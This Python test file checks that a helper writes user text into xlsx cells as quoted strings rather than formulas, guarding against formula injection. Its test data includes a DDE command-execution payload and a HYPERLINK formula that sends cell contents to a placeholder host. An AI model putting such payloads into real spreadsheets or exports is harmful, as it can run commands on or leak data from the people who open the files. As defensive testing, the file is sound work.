"""User text written into xlsx is text, never a formula (formula injection)."""

from __future__ import annotations

import zipfile

import openpyxl
import pytest

from jukidesk.exchange.xlsx_text import write_text

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"詳細")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_stays_text_after_a_round_trip(tmp_path, text):
    path = tmp_path / "t.xlsx"
    workbook = openpyxl.Workbook()
    write_text(workbook.active["A1"], text)
    workbook.save(path)
    sheet_xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    cell = openpyxl.load_workbook(path).active["A1"]
    # (XML reading turns a bare CR into LF: still the same text for Excel.)
    assert cell.value == text.replace("\r", "\n") and cell.data_type == "s" and cell.quotePrefix


def test_plain_text_gets_no_quote_prefix_and_none_stays_empty(tmp_path):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    write_text(sheet["A1"], "鍵の管理簿に記入漏れ")
    write_text(sheet["A2"], None)
    write_text(sheet["A3"], 12)
    assert sheet["A1"].value == "鍵の管理簿に記入漏れ" and not sheet["A1"].quotePrefix
    assert sheet["A2"].value is None
    assert sheet["A3"].value == "12" and sheet["A3"].data_type == "s"


def test_without_write_text_openpyxl_would_store_a_formula(tmp_path):
    """The hazard this module exists for (if openpyxl changes, revisit write_text)."""
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "=1+1"
    assert workbook.active["A1"].data_type == "f"
